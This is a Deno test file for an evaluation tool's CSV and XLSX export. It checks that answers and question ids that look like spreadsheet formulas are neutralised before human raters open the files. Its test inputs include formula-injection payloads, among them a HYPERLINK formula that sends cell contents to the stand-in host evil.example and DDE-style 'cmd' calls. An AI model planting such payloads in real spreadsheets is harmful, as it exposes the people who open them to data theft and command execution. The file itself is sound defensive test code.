import assert from "node:assert/strict";
import { join } from "node:path";
import ExcelJS from "exceljs";
import { parseCsvRows, stringifyCsv } from "../io/csv.ts";
import { seededRandom } from "../stats/rng.ts";
import { readHumanEvalKey } from "./human_eval_key.ts";
import { readHumanEval } from "./read_human_eval.ts";
import { fillCsv, fillXlsx } from "./_test_fill.ts";
import { FORMULA_TRIGGERS, neutralizeCell } from "../escape/neutralize_cell.ts";
import { prepareHumanEval } from "./prepare_human_eval.ts";
import { HUMAN_EVAL_FILES, writeHumanEval } from "./write_human_eval.ts";
import { fakeAnsweredRun } from "../testing/fake_run.ts";

const ATTACKS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Толығырақ")',
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1,1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "  =ЕСЛИ(1;2;3)",
  "\n@A1",
];

Deno.test("neutralizeCell() prefixes every formula trigger and leaves ordinary text alone", () => {
  for (const t of FORMULA_TRIGGERS) assert.equal(neutralizeCell(`${t}x`), `'${t}x`);
  for (const a of ATTACKS) assert.equal(neutralizeCell(a), `'${a}`);
  for (
    const ok of [
      "Согласно ст. 65 НК РК",
      "Иә, салық төлеу міндетті.",
      "1) первое",
      "",
      "'уже текст",
      "a=b",
    ]
  ) {
    assert.equal(neutralizeCell(ok), ok);
  }
});

Deno.test("injection: formula-like answers are neutralised in the CSV and are plain text in the XLSX", async () => {
  const runs = [
    fakeAnsweredRun("a", ATTACKS),
    fakeAnsweredRun("b", ATTACKS.map((x) => `${x} (b)`)),
  ];
  const p = prepareHumanEval(runs, { n: ATTACKS.length, seed: 1 });
  const dir = await Deno.makeTempDir();
  await writeHumanEval(p, dir);
  const csv = parseCsvRows(await Deno.readTextFile(join(dir, HUMAN_EVAL_FILES.csv)));
  const answer = csv[0].indexOf("ответ_модели");
  assert.equal(csv.length, 1 + 2 * ATTACKS.length);
  for (const row of csv.slice(1)) {
    assert.equal(row[answer][0], "'", `CSV answer not neutralised: ${JSON.stringify(row[answer])}`);
    for (const cell of row) {
      assert.ok(!/^[=+\-@\t\r]/.test(cell), `CSV cell starts a formula: ${JSON.stringify(cell)}`);
    }
  }
  const wb = new ExcelJS.Workbook();
  // deno-lint-ignore no-explicit-any
  await wb.xlsx.load((await Deno.readFile(join(dir, HUMAN_EVAL_FILES.xlsx))) as any);
  const ws = wb.getWorksheet("Оценка")!;
  let checked = 0;
  ws.eachRow((row, r) => {
    row.eachCell((cell) => {
      assert.notEqual(cell.type, ExcelJS.ValueType.Formula, `XLSX formula at row ${r}`);
      if (typeof cell.value === "string") {
        assert.ok(!/^[=+\-@\t\r]/.test(cell.value), `XLSX cell starts a formula: ${cell.value}`);
      }
    });
    if (r > 1) {
      assert.equal(String(row.getCell(answer + 1).value)[0], "'");
      checked++;
    }
  });
  assert.equal(checked, 2 * ATTACKS.length);
});

Deno.test("question ids that a spreadsheet would read as formulas are neutralised and read back as the key's ids", async () => {
  const IDS = ["-1", "+7", "=2", "@3", "\t4", "12"];
  const withIds = (run: ReturnType<typeof fakeAnsweredRun>) => ({
    ...run,
    samples: run.samples!.map((s, i) => ({ ...s, id: IDS[i] })),
  });
  const runs = [
    withIds(fakeAnsweredRun("a", IDS.map((_, i) => `Жауап ${i}: Салық кодексі`))),
    withIds(fakeAnsweredRun("b", IDS.map((_, i) => `Ответ ${i}: Налоговый кодекс`))),
  ];
  const p = prepareHumanEval(runs, { n: IDS.length, seed: 4 });
  const dir = await Deno.makeTempDir();
  const files = await writeHumanEval(p, dir);
  const csv = parseCsvRows(await Deno.readTextFile(files.csv));
  const ids = csv.slice(1).map((r) => r[0]);
  assert.deepEqual(
    [...new Set(ids)].sort(),
    ["'+7", "'-1", "'=2", "'@3", "'\t4", "12"].sort(),
  );
  for (const row of csv) {
    for (const cell of row) assert.ok(!/^[=+\-@\t\r]/.test(cell), JSON.stringify(cell));
  }
  const wb = new ExcelJS.Workbook();
  // deno-lint-ignore no-explicit-any
  await wb.xlsx.load((await Deno.readFile(files.xlsx)) as any);
  wb.getWorksheet("Оценка")!.eachRow((row) =>
    row.eachCell((cell) => {
      assert.notEqual(cell.type, ExcelJS.ValueType.Formula);
      assert.ok(!/^[=+\-@\t\r]/.test(String(cell.value)), JSON.stringify(cell.value));
    })
  );
  // Filled in either format, and re-saved by a spreadsheet that dropped the apostrophes, the
  // ratings come back under the ids of the result files.
  const key = await readHumanEvalKey(files.key);
  const random = seededRandom(8);
  await fillCsv(files.csv, join(dir, "r1.csv"), random);
  await fillXlsx(files.xlsx, join(dir, "r2.xlsx"), random);
  const dropped = parseCsvRows(await Deno.readTextFile(join(dir, "r1.csv")));
  for (const row of dropped.slice(1)) row[0] = row[0].replace(/^'/, "");
  await Deno.writeTextFile(join(dir, "r3.csv"), stringifyCsv(dropped, { bom: true }));
  const data = await readHumanEval(["r1.csv", "r2.xlsx", "r3.csv"].map((f) => join(dir, f)), {
    key,
  });
  assert.equal(data.ratings.length, 3 * 2 * IDS.length);
  for (const r of data.ratings) assert.ok(IDS.includes(r.question), JSON.stringify(r.question));
  assert.deepEqual(
    data.ratings.filter((r) => r.rater === "r3").map((r) => [r.question, r.label, r.run]),
    data.ratings.filter((r) => r.rater === "r1").map((r) => [r.question, r.label, r.run]),
  );
  await Deno.remove(dir, { recursive: true });
});
